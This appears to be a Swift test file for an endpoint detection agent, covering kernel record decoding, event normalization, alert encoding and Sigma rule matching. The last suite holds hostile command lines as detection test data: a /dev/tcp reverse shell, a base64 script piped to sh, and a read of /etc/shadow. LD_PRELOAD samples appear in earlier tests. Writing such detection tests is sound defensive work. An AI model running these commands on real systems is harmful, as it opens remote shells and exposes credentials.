import Testing
import Foundation
@testable import EDRCore
@testable import EDRDetect
import EDRSigma
import EDRYara

/// The test names for the shared record encoder (Sources/EDRDetect/KernelRecordLayout.swift).
/// Every identity field gets its own value by default (pid ≠ tid, uid ≠ euid ≠ gid ≠ egid ≠
/// loginuid, start ≠ parent start): a decoder that mixes two of them up fails the tests.
enum RecordBuilder {
    static let tidOffset: UInt32 = 7
    static let euid: UInt32 = 61_002, gid: UInt32 = 61_003, egid: UInt32 = 61_004, loginuid: UInt32 = 61_005

    static func ids(pid: UInt32, ppid: UInt32, uid: UInt32, start: UInt64, parentStart: UInt64) -> [UInt8] {
        KernelRecordLayout.ids(
            pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
            start: start, parentStart: parentStart, loginuid: loginuid)
    }

    static func exec(
        pid: UInt32 = 100, ppid: UInt32 = 50, uid: UInt32 = 0, args: [String], path: String, cwd: String,
        start: UInt64 = 5_000_000_000, parentStart: UInt64 = 1_000_000_000, flags: UInt32 = 0
    ) -> [UInt8] {
        KernelRecordLayout.exec(
            pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
            loginuid: loginuid, start: start, parentStart: parentStart, args: args, path: path, cwd: cwd,
            flags: flags, bootNanos: 9_000_000_123)
    }
}

/// A record of the wrong kind fails the test where it is unwrapped (`try #require(x.asExec)`).
extension KernelRecord {
    var asExec: ExecRecord? { if case .exec(let r) = self { r } else { nil } }
    var asExit: ExitRecord? { if case .exit(let r) = self { r } else { nil } }
    var asFork: ForkRecord? { if case .fork(let r) = self { r } else { nil } }
    var asNet: NetRecord? { if case .net(let r) = self { r } else { nil } }
    var asFile: FileRecord? { if case .file(let r) = self { r } else { nil } }
    var asDns: DnsRecord? { if case .dns(let r) = self { r } else { nil } }
    var asAttack: AttackRecord? { if case .attack(let r) = self { r } else { nil } }
    var asCgroup: CgroupRecord? { if case .cgroup(let r) = self { r } else { nil } }
}

/// Each identity field, separately.
func expectIDs(
    _ ids: TaskIDs, pid: Int32, tid: Int32, ppid: Int32, uid: UInt32, euid: UInt32, gid: UInt32, egid: UInt32,
    loginuid: UInt32, start: UInt64, parentStart: UInt64, sourceLocation: SourceLocation = #_sourceLocation
) {
    #expect(ids.pid == pid, "pid", sourceLocation: sourceLocation)
    #expect(ids.tid == tid, "tid", sourceLocation: sourceLocation)
    #expect(ids.ppid == ppid, "ppid", sourceLocation: sourceLocation)
    #expect(ids.uid == uid, "uid", sourceLocation: sourceLocation)
    #expect(ids.euid == euid, "euid", sourceLocation: sourceLocation)
    #expect(ids.gid == gid, "gid", sourceLocation: sourceLocation)
    #expect(ids.egid == egid, "egid", sourceLocation: sourceLocation)
    #expect(ids.loginuid == loginuid, "loginuid", sourceLocation: sourceLocation)
    #expect(ids.startBoottimeNanos == start, "start", sourceLocation: sourceLocation)
    #expect(ids.parentStartBoottimeNanos == parentStart, "parent start", sourceLocation: sourceLocation)
}

@Suite("Kernel records and normalization")
struct KernelRecordTests {
    @Test func decodesExec() throws {
        let bytes = KernelRecordLayout.exec(
            pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004,
            loginuid: 61_005, start: 5_000_000_000, parentStart: 1_000_000_000,
            args: ["/usr/bin/curl", "-s", "http://x"], path: "/usr/bin/curl", cwd: "/home/a b",
            flags: ExecRecord.cwdTruncated, cgroup: 777, comm: "curl-comm", bootNanos: 9_000_000_123)
        let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
        #expect(r.args == ["/usr/bin/curl", "-s", "http://x"])
        #expect(r.commandLine == "/usr/bin/curl -s http://x")
        #expect(r.path == "/usr/bin/curl")
        #expect(r.cwd == "/home/a b")
        expectIDs(
            r.ids, pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004, loginuid: 61_005,
            start: 5_000_000_000, parentStart: 1_000_000_000)
        #expect(r.bootNanos == 9_000_000_123)
        #expect(r.cgroupID == 777)
        #expect(r.comm == "curl-comm")
        #expect(r.argc == 3)
        #expect(r.flags == ExecRecord.cwdTruncated)
        // The identity as fstat reports it: st_dev of 8:1 is 0x801.
        #expect(
            r.executable
                == FileIdentity(
                    device: 0x801, inode: 4242, size: 35_000,
                    ctimeSeconds: 1_700_000_000, ctimeNanoseconds: 123_456_789))
    }

    @Test func decodesExitAndFork() throws {
        let exit = try #require(
            try KernelRecordDecoder.decode(
                KernelRecordLayout.exit(
                    pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
                    start: 7_000_000_000, parentStart: 3_000_000_000, code: 0x0900, comm: "exit-comm", bootNanos: 8_000_000_001)
            ).asExit,
            "not an exit record")
        expectIDs(
            exit.ids, pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
            start: 7_000_000_000, parentStart: 3_000_000_000)
        #expect(exit.exitCode == 0x0900 && exit.comm == "exit-comm" && exit.bootNanos == 8_000_000_001)
        let fork = try #require(
            try KernelRecordDecoder.decode(
                KernelRecordLayout.fork(
                    pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
                    start: 6_000_000_000, parentStart: 2_000_000_000, comm: "fork-comm", bootNanos: 8_000_000_002)
            ).asFork,
            "not a fork record")
        expectIDs(
            fork.ids, pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
            start: 6_000_000_000, parentStart: 2_000_000_000)
        #expect(fork.comm == "fork-comm" && fork.bootNanos == 8_000_000_002)
        // Start times in clock ticks, as /proc states them (100 Hz).
        #expect(fork.ids.startTicks == 600 && fork.ids.parentStartTicks == 200)
    }

    @Test func rootPathAndTruncatedArgs() throws {
        var bytes = RecordBuilder.exec(args: ["a", "b"], path: "/x", cwd: "/")
        let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
        #expect(r.cwd == "/" && r.path == "/x" && r.args == ["a", "b"] && r.flags == 0)
        // A truncated argv has no final NUL: the partial argument is kept.
        bytes = RecordBuilder.exec(args: ["a", "bcd"], path: "/x", cwd: "/", flags: ExecRecord.argsTruncated)
        bytes.remove(at: 168 + 5)  // drop the last NUL of argv
        bytes[80] -= 1  // args_len
        let size = UInt32(bytes.count)
        withUnsafeBytes(of: size.littleEndian) { for i in 0..<4 { bytes[4 + i] = $0[i] } }
        let t = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
        #expect(t.args == ["a", "bcd"] && t.flags == ExecRecord.argsTruncated)
        #expect(t.commandLine == "a bcd" && t.path == "/x" && t.cwd == "/")
    }

    @Test func rejectsMalformedRecords() {
        let good = RecordBuilder.exec(args: ["a"], path: "/a", cwd: "/")
        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(Array(good.prefix(10))) }
        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(Array(good.dropLast())) }  // size mismatch
        var lengths = good
        lengths[80] = 200  // args_len beyond the record
        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(lengths) }
        var kind = good
        kind[0] = 99
        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(kind) }
        var version = good
        version[2] = 7
        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(version) }
        // Structure-aware fuzzing of every record kind: FuzzTests.swift.
    }

    /// What the kernel cut is said in the event ("Truncated"), never silently shortened.
    @Test func truncationIsReportedInTheEvent() throws {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        let whole = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(args: ["a"], path: "/x", cwd: "/")).asExec)
        #expect(n.exec(whole).0["Truncated"] == nil)
        let cases: [(UInt32, [String])] = [
            (ExecRecord.argsTruncated, ["CommandLine"]), (ExecRecord.argsFault, ["CommandLine"]),
            (ExecRecord.pathTruncated, ["Image"]), (ExecRecord.cwdTruncated, ["CurrentDirectory"]),
            (ExecRecord.argsTruncated | ExecRecord.pathTruncated | ExecRecord.cwdTruncated, ["CommandLine", "Image", "CurrentDirectory"]),
            (ExecRecord.environmentTruncated | ExecRecord.argsTruncated, ["CommandLine", "Environment"])
        ]
        for (flags, fields) in cases {
            let r = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(args: ["a"], path: "/x", cwd: "/", flags: flags)).asExec)
            #expect(n.exec(r).0["Truncated"] == .array(fields.map { .string($0) }), "flags \(flags)")
        }
    }

    /// A #! script: the interpreter is the Image, the script has its own path and identity.
    @Test func decodesScriptAndEnvironment() throws {
        let bytes = KernelRecordLayout.exec(
            pid: 100, tid: 101, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000,
            args: ["/bin/sh", "./run.sh", "x"], path: "/usr/bin/dash", cwd: "/srv",
            script: "/srv/app/run.sh", environment: ["PATH=/bin", "LD_PRELOAD=/tmp/x.so"])
        let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
        #expect(r.path == "/usr/bin/dash" && r.cwd == "/srv" && r.args == ["/bin/sh", "./run.sh", "x"])
        #expect(r.scriptPath == "/srv/app/run.sh")
        #expect(r.flags == ExecRecord.script)
        #expect(r.executable == FileIdentity(device: 0x801, inode: 4242, size: 35_000, ctimeSeconds: 1_700_000_000, ctimeNanoseconds: 123_456_789))
        #expect(r.script == FileIdentity(device: 0x802, inode: 5151, size: 777, ctimeSeconds: 1_700_000_001, ctimeNanoseconds: 500_000_000))
        #expect(r.environment == Array("PATH=/bin\0LD_PRELOAD=/tmp/x.so\0".utf8))
        // A plain binary: no script, no script identity.
        let plain = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(args: ["a"], path: "/x", cwd: "/")).asExec)
        #expect(plain.scriptPath == nil && plain.script == nil && plain.environment.isEmpty)
        // The kernel did not find the script's file: the name execve got, against the cwd; no identity.
        let named = try #require(
            try KernelRecordDecoder.decode(
                KernelRecordLayout.exec(
                    pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"], path: "/usr/bin/dash", cwd: "/srv",
                    script: "sub/run.sh", scriptNameOnly: true)
            ).asExec)
        #expect(named.scriptPath == "/srv/sub/run.sh" && named.script == nil)
        let absolute = try #require(
            try KernelRecordDecoder.decode(
                KernelRecordLayout.exec(
                    pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"], path: "/usr/bin/dash", cwd: "/",
                    script: "/dev/fd/3", scriptNameOnly: true)
            ).asExec)
        #expect(absolute.scriptPath == "/dev/fd/3" && absolute.script == nil)
    }

    @Test func rejectsMalformedScriptAndEnvironmentLengths() throws {
        let good = KernelRecordLayout.exec(
            pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"],
            path: "/usr/bin/dash", cwd: "/", script: "/s.sh", environment: ["A=1"])
        _ = try KernelRecordDecoder.decode(good)
        for (offset, delta) in [(86, 1), (86, -1), (164, 1), (164, -1)] {
            var b = good
            let v = Int(b.readLE(UInt16.self, at: offset)) + delta
            withUnsafeBytes(of: UInt16(v).littleEndian) {
                b[offset] = $0[0]; b[offset + 1] = $0[1]
            }
            #expect(throws: RecordError.self, "length at \(offset) off by \(delta)") { try KernelRecordDecoder.decode(b) }
        }
        // Script bytes without the script flag: not a record the kernel writes.
        var noFlag = good
        noFlag[72] &= ~UInt8(ExecRecord.script)
        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(noFlag) }
        // An environment that fills the record to the last byte without a NUL decodes; so does
        // one of NULs only.
        for env in [Array("LD_PRELOAD=/tm".utf8), [UInt8](repeating: 0, count: 9)] {
            let b = KernelRecordLayout.exec(
                pid: 1, ppid: 0, start: 1, parentStart: 0, args: ["a"], path: "/a", cwd: "/",
                flags: ExecRecord.environmentTruncated, environmentBytes: env)
            let r = try #require(try KernelRecordDecoder.decode(b).asExec)
            #expect(r.environment == env)
        }
    }

    /// Only the configured names leave the normalizer, exactly (no prefix matches, no case
    /// folding), every occurrence, in envp order; a cut environment says so.
    @Test func environmentIsFilteredToTheConfiguredNames() throws {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        func event(_ env: [UInt8], flags: UInt32 = 0) throws -> Event {
            let b = KernelRecordLayout.exec(
                pid: 1, ppid: 0, start: 1, parentStart: 0, args: ["a"], path: "/a", cwd: "/",
                flags: flags, environmentBytes: env)
            return n.exec(try #require(try KernelRecordDecoder.decode(b).asExec)).0
        }
        let env = Array(
            ("SECRET=s3cret\0LD_PRELOADX=no\0ld_preload=no\0LD_PRELOAD\0\0=LD_PRELOAD=no\0"
                + "LD_PRELOAD=/tmp/a.so\0LD_LIBRARY_PATH=/x=y\0LD_PRELOAD=/tmp/b.so\0LD_PRELOAD=").utf8)
        let e = try event(env)
        #expect(e["Environment"] == .array(["LD_PRELOAD=/tmp/a.so", "LD_LIBRARY_PATH=/x=y", "LD_PRELOAD=/tmp/b.so", "LD_PRELOAD="]))
        #expect(e["Env.LD_PRELOAD"] == .array(["/tmp/a.so", "/tmp/b.so", ""]))
        #expect(e["Env.LD_LIBRARY_PATH"] == .string("/x=y"))
        #expect(e["Truncated"] == nil)
        #expect(!e.names.contains { $0.contains("SECRET") } && !e.values.contains { "\($0)".contains("s3cret") })
        // Nothing configured, nothing listed: no field at all.
        #expect(try event(Array("A=1\0".utf8))["Environment"] == nil)
        // A configured extra name; the defaults replaced.
        n.environmentNames = ["SECRET"]
        let only = try event(env)
        #expect(only["Environment"] == .array(["SECRET=s3cret"]) && only["Env.SECRET"] == .string("s3cret"))
        #expect(only["Env.LD_PRELOAD"] == nil)
        n.environmentNames = []
        #expect(try event(env)["Environment"] == nil)
        // Cut or unreadable: Truncated says Environment.
        n.environmentNames = Normalizer.defaultEnvironmentNames
        #expect(try event(Array("LD_PRELOAD=/tm".utf8), flags: ExecRecord.environmentTruncated)["Truncated"] == .array(["Environment"]))
        #expect(try event([], flags: ExecRecord.environmentFault)["Truncated"] == .array(["Environment"]))
        #expect(try event([], flags: ExecRecord.scriptTruncated)["Truncated"] == .array(["ScriptPath"]))
    }

    @Test func scriptPathIsAnEventField() throws {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        let r = try #require(
            try KernelRecordDecoder.decode(
                KernelRecordLayout.exec(
                    pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["/bin/sh", "/srv/run.sh"],
                    path: "/usr/bin/dash", cwd: "/", script: "/srv/run.sh")
            ).asExec)
        let e = n.exec(r).0
        #expect(e["Image"] == .string("/usr/bin/dash"))
        #expect(e["ScriptPath"] == .string("/srv/run.sh"))
        let plain = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(args: ["a"], path: "/x", cwd: "/")).asExec)
        #expect(n.exec(plain).0["ScriptPath"] == nil)
    }

    @Test func normalizerLinksParentAndBuildsSysmonFields() throws {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        let parentStart: UInt64 = 1_000_000_000
        let p = try #require(
            try KernelRecordDecoder.decode(
                RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-i"], path: "/usr/bin/bash", cwd: "/root", start: parentStart, parentStart: 10)
            ).asExec, "not an exec record")
        _ = n.exec(p)
        // The child runs as uid 0 with every other id different: User is the real uid's name.
        let c = try #require(
            try KernelRecordDecoder.decode(
                RecordBuilder.exec(pid: 100, ppid: 50, args: ["whoami"], path: "/usr/bin/whoami", cwd: "/tmp", parentStart: parentStart)
            ).asExec, "not an exec record")
        let (event, proc, parentEntry) = n.exec(c)
        let parent = try #require(parentEntry, "the parent was not found in the cache")
        #expect(event.logsource == Normalizer.processCreation)
        #expect(event["Image"] == .string("/usr/bin/whoami"))
        #expect(event["CommandLine"] == .string("whoami"))
        #expect(event["CurrentDirectory"] == .string("/tmp"))
        #expect(event["User"] == .string("root"))
        #expect(event["LogonId"] == .int(Int64(RecordBuilder.loginuid)))
        #expect(event["ProcessId"] == .int(100))
        #expect(event["ParentProcessId"] == .int(50))
        #expect(event["ParentImage"] == .string("/usr/bin/bash"))
        #expect(event["ParentCommandLine"] == .string("bash -i"))
        #expect(event["ParentUser"] == .string("root"))
        #expect(parent.pid == 50 && parent.image == "/usr/bin/bash")
        #expect(proc.pid == 100 && proc.ppid == 50 && proc.uid == 0 && proc.loginuid == RecordBuilder.loginuid)
        #expect(proc.guid == "{01234567-0000-0000-0000-01f400000064}")  // start 5 s = 500 ticks, pid 100
        #expect(event["ProcessGuid"] == .string(proc.guid))
        #expect(parent.guid == "{01234567-0000-0000-0000-006400000032}")  // start 1 s = 100 ticks, pid 50
        #expect(event["ParentProcessGuid"] == .string(parent.guid))
    }

    /// The real uid names the user, not the effective one (a set-uid program run by alice is alice's).
    @Test func userIsTheRealUID() throws {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        let bytes = KernelRecordLayout.exec(
            pid: 70, tid: 71, ppid: 1, uid: 61_999, euid: 0, gid: 61_998, egid: 0,
            start: 2_000_000_000, parentStart: 10, args: ["passwd"], path: "/usr/bin/passwd", cwd: "/")
        let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
        let (event, proc, _) = n.exec(r)
        #expect(event["User"] == .string("61999"))
        #expect(proc.uid == 61_999)
    }

    /// The hot-path builders write bytes by hand: check them character for character.
    @Test func guidTimestampAndPathsAreExact() {
        let g = ProcessGuidFactory(machineID: "0123456789abcdef0123456789abcdef")
        #expect(g.guid(pid: 0x1234, startTicks: 0x0123_4567_89ab_cdef) == "{01234567-0123-4567-89ab-cdef00001234}")
        #expect(g.guid(pid: -1, startTicks: 0) == "{01234567-0000-0000-0000-0000ffffffff}")
        #expect(formatTimestamp(seconds: 1_700_000_000, nanos: 123_456_789) == "2023-11-14T22:13:20.123456Z")
        #expect(formatTimestamp(seconds: 0, nanos: 5_000_000, fractionDigits: 3) == "1970-01-01T00:00:00.005Z")
        func join(_ parts: [String]) -> String {
            KernelRecordDecoder.joinComponents(parts.flatMap { Array($0.utf8) + [0] }[...])
        }
        // Leaf first; a mount root's "/" and empty components are skipped; a truncated last
        // component without its NUL is kept.
        #expect(join(["leaf", "/", "mid", "usr"]) == "/usr/mid/leaf")
        #expect(join(["", "x"]) == "/x")
        #expect(join([]) == "/")
        #expect(KernelRecordDecoder.joinComponents(Array("a\u{0}bc".utf8)[...]) == "/bc/a")
    }

    /// A fork without exec runs the parent's image: the child shares the parent's fields, gets
    /// its own ProcessGuid, and names the parent's as ParentProcessGuid; argv is split on demand.
    @Test func forkInheritsTheParentAndSplitsArgvOnDemand() throws {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        let p = try #require(
            try KernelRecordDecoder.decode(
                RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-c", "a b"], path: "/usr/bin/bash", cwd: "/root", start: 1_000_000_000, parentStart: 10)
            ).asExec, "not an exec record")
        let (_, parent, _) = n.exec(p)
        #expect(parent.args == ["bash", "-c", "a b"] && parent.commandLine == "bash -c a b")
        let f = try #require(
            try KernelRecordDecoder.decode(
                KernelRecordLayout.fork(
                    pid: 60, tid: 61, ppid: 50, uid: 61_999, euid: 61_002,
                    start: 2_000_000_000, parentStart: 1_000_000_000)
            ).asFork,
            "not a fork record")
        n.fork(f)
        let child = try #require(n.cache.lookup(pid: 60))
        #expect(child.image == "/usr/bin/bash" && child.args == ["bash", "-c", "a b"] && child.cwd == "/root")
        #expect(child.parentGuid == parent.guid && child.guid != parent.guid && child.ppid == 50)
        #expect(child.uid == 61_999 && child.user == "61999" && child.startTicks == 200)
        n.exit(ExitRecord(bootNanos: 0, ids: f.ids, exitCode: 0, comm: ""))
        #expect(n.cache.lookup(pid: 60)?.exitedAtNanos != nil)
    }

    /// argv's NULs become spaces, trailing NULs go, and invalid UTF-8 is repaired as
    /// `String(decoding:)` repairs it: against that reference on fixed and random bytes.
    @Test func commandLineJoinsArgvAndRepairsUTF8() {
        func reference(_ b: [UInt8]) -> String {
            var a = b
            while a.last == 0 { a.removeLast() }
            return String(decoding: a.map { $0 == 0 ? UInt8(ascii: " ") : $0 }, as: UTF8.self)
        }
        #expect(KernelRecordDecoder.commandLine(Array("bash\u{0}-c\u{0}a b\u{0}\u{0}".utf8)[...]) == "bash -c a b")
        #expect(KernelRecordDecoder.commandLine([0, 0][...]) == "")
        #expect(KernelRecordDecoder.commandLine([0x61, 0xff, 0, 0xe2, 0x82][...]) == "a\u{FFFD} \u{FFFD}")
        var rng = SystemRandomNumberGenerator()
        for _ in 0..<500 {
            let bytes = (0..<Int.random(in: 0..<40, using: &rng)).map { _ in
                [0, 0x20, 0x41, 0x7f, 0x80, 0xc3, 0xa9, 0xe2, 0x82, 0xac, 0xf0, 0x9f, 0xff].randomElement(using: &rng)! as UInt8
            }
            // A slice that does not start at index 0, as the decoder passes it.
            let padded = [UInt8(7)] + bytes
            #expect(KernelRecordDecoder.commandLine(padded[1...]) == reference(bytes), "\(bytes)")
        }
    }

    /// An exec takes the GUIDs of the processes the cache holds (the forked process it replaces,
    /// its parent) only when they are the same processes: a pid reused by a process started at
    /// another time gets the GUID of the start the record names.
    @Test func execGuidsNameTheProcessesOfTheRecord() throws {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        let g = ProcessGuidFactory(machineID: "0123456789abcdef0123456789abcdef")
        func exec(pid: UInt32, ppid: UInt32, start: UInt64, parentStart: UInt64) throws -> Event {
            let r = try #require(
                try KernelRecordDecoder.decode(
                    RecordBuilder.exec(pid: pid, ppid: ppid, args: ["x"], path: "/usr/bin/x", cwd: "/", start: start, parentStart: parentStart)
                ).asExec, "not an exec record")
            return n.exec(r).0
        }
        _ = try exec(pid: 50, ppid: 1, start: 1_000_000_000, parentStart: 10)
        let f = try #require(
            try KernelRecordDecoder.decode(KernelRecordLayout.fork(pid: 60, ppid: 50, start: 2_000_000_000, parentStart: 1_000_000_000)).asFork,
            "not a fork record")
        n.fork(f)
        let forked = try #require(n.cache.lookup(pid: 60))
        // The exec of the forked process: its GUID and its parent's, as the factory gives them.
        let e1 = try exec(pid: 60, ppid: 50, start: 2_000_000_000, parentStart: 1_000_000_000)
        #expect(e1["ProcessGuid"] == .string(forked.guid) && forked.guid == g.guid(pid: 60, startTicks: 200))
        #expect(e1["ParentProcessGuid"] == .string(g.guid(pid: 50, startTicks: 100)))
        // pid 50 reused by a process started later than the one in the cache, and pid 60 by a
        // process started later than the forked one.
        let e2 = try exec(pid: 60, ppid: 50, start: 3_000_000_000, parentStart: 2_500_000_000)
        #expect(e2["ProcessGuid"] == .string(g.guid(pid: 60, startTicks: 300)))
        #expect(e2["ParentProcessGuid"] == .string(g.guid(pid: 50, startTicks: 250)))
    }

    @Test func snapshotParsesProcText() throws {
        var n = Normalizer(machineID: "ab")
        var p = [UInt8]()
        p.appendLE(UInt32(321))
        func section(_ tag: UInt8, _ s: [UInt8]) { p.append(tag); p.appendLE(UInt32(s.count)); p += s }
        section(1, Array("321 (my (odd) name) S 1 321 321 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 4242 1000 10".utf8))
        section(2, Array("Name:\tx\nUid:\t1000\t1001\t1002\t1003\n".utf8))  // real, effective, saved, fs: distinct
        section(3, Array("python3\0-m\0http.server\0".utf8))
        section(4, Array("/usr/bin/python3.11".utf8))
        section(5, Array("/srv".utf8))
        try n.snapshot(p)
        let e = try #require(n.cache.lookup(pid: 321, startTicks: 4242))
        #expect(e.commandLine == "python3 -m http.server" && e.image == "/usr/bin/python3.11" && e.cwd == "/srv" && e.uid == 1000 && e.ppid == 1)
        #expect(throws: RecordError.self) { try n.snapshot([1, 0, 0, 0, 1, 200, 0, 0, 0]) }
    }

    @Test func alertIsValidECS() throws {
        let event = Event(
            logsource: Normalizer.processCreation, timestamp: 1_800_000_000.5,
            fields: [
                ("Image", "/usr/bin/whoami"), ("CommandLine", "whoami \"quoted\"\n"), ("ProcessId", 7), ("User", "root"),
                ("ParentProcessId", 1), ("ParentImage", "/sbin/init"), ("CurrentDirectory", "/"),
                ("Environment", .array(["LD_PRELOAD=/tmp/x.so"]))
            ])
        let rule = SigmaRuleInfo(
            id: "r1", title: "T", level: .high, tags: ["attack.t1033", "attack.discovery"],
            logsource: Normalizer.processCreation, path: "x.yml")
        let line = AlertEncoder.sigma(event: event, rule: rule, sequence: 9, context: AlertContext(hostName: "h", hostID: "id"))
        #expect(line.last == 0x0A)
        let obj = try #require(try JSONSerialization.jsonObject(with: Data(line)) as? [String: Any])
        #expect(obj["@timestamp"] as? String == "2027-01-15T08:00:00.500000Z")
        let ev = try #require(obj["event"] as? [String: Any])
        #expect(ev["kind"] as? String == "alert" && ev["severity"] as? Int == 73 && ev["sequence"] as? Int == 9)
        let r = try #require(obj["rule"] as? [String: Any])
        #expect(r["ruleset"] as? String == "sigma" && r["id"] as? String == "r1")
        let process = try #require(obj["process"] as? [String: Any])
        #expect(process["executable"] as? String == "/usr/bin/whoami" && process["pid"] as? Int == 7)
        #expect(process["command_line"] as? String == "whoami \"quoted\"\n")
        #expect(process["env_vars"] as? [String] == ["LD_PRELOAD=/tmp/x.so"])
        #expect((process["parent"] as? [String: Any])?["executable"] as? String == "/sbin/init")
        #expect((obj["threat"] as? [String: Any]).flatMap { ($0["technique"] as? [String: Any])?["id"] as? [String] } == ["T1033"])
        #expect((obj["agent"] as? [String: Any])?["name"] as? String == "edr")
    }
}

@Suite("Team rules")
struct TeamRuleTests {
    static let rulesDir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("rules/sigma").path

    func event(_ image: String, _ cmd: String, user: String = "root") -> Event {
        Event(logsource: Normalizer.processCreation, fields: [("Image", .string(image)), ("CommandLine", .string(cmd)), ("User", .string(user))])
    }

    @Test func teamRulesLoadAndMatch() throws {
        let engine = try SigmaEngine.load(paths: [Self.rulesDir])
        let files = try FileManager.default.contentsOfDirectory(atPath: Self.rulesDir).filter { $0.hasSuffix(".yml") }
        #expect(files.count == 5)
        #expect(engine.loadedCount == engine.diagnostics.count && engine.loadedCount == files.count)
        let titles = { (e: Event) in Set(engine.evaluate(e).map(\.rule.title)) }
        #expect(titles(event("/usr/bin/whoami", "whoami")) == ["Identity Discovery As Root"])
        #expect(titles(event("/usr/bin/whoami", "whoami", user: "alice")).isEmpty)
        #expect(
            titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")) == [
                "Interactive Reverse Shell Through /dev/tcp Or A Network Tool"
            ])
        #expect(titles(event("/usr/bin/sh", "sh -c echo aGk= | base64 -d | sh")) == ["Base64-Decoded Script Piped To A Shell"])
        #expect(titles(event("/usr/bin/sh", "sh -c base64 -d file > out")).isEmpty)
        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")) == ["Password Hash File Read By A Text Tool"])  // case-insensitive
        let compat = Event(logsource: TelemetryNormalizer.compatSyscall, fields: [("Syscall", .string("int 0x80")), ("SyscallName", .string("creat"))])
        #expect(Set(engine.evaluate(compat).map(\.rule.title)) == ["32-Bit System Calls Unseen By File And Network Telemetry"])
    }
}
